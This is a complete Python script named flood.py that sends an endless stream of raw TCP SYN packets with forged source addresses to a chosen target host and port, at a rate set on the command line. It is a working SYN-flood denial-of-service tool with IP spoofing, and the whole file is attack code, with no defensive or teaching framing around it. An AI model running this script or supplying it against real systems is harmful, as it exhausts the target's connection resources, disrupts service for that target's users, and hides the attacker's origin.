"""Half-open connections from many sources, at a bounded rate: flood.py NETWORK(a.b) TARGET PORT PER_SECOND.

Raw TCP SYN segments (RFC 9293) with forged sources; nobody answers what comes back.
"""
import random
import socket
import struct
import sys
import time

network, target, port, rate = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


while True:
    source = socket.inet_aton(f"{network}.{random.randrange(256)}.{random.randrange(1, 255)}")
    to = socket.inet_aton(target)
    syn = struct.pack("!HHIIBBHHH", random.randrange(1024, 65535), port, random.getrandbits(32), 0, 0x50, 2, 64240, 0, 0)
    pseudo = source + to + struct.pack("!BBH", 0, 6, len(syn))
    syn = syn[:16] + struct.pack("!H", checksum(pseudo + syn)) + syn[18:]
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(syn), 0, 0, 64, 6, 0, source, to)
    sock.sendto(head + syn, (target, 0))
    time.sleep(1 / rate)
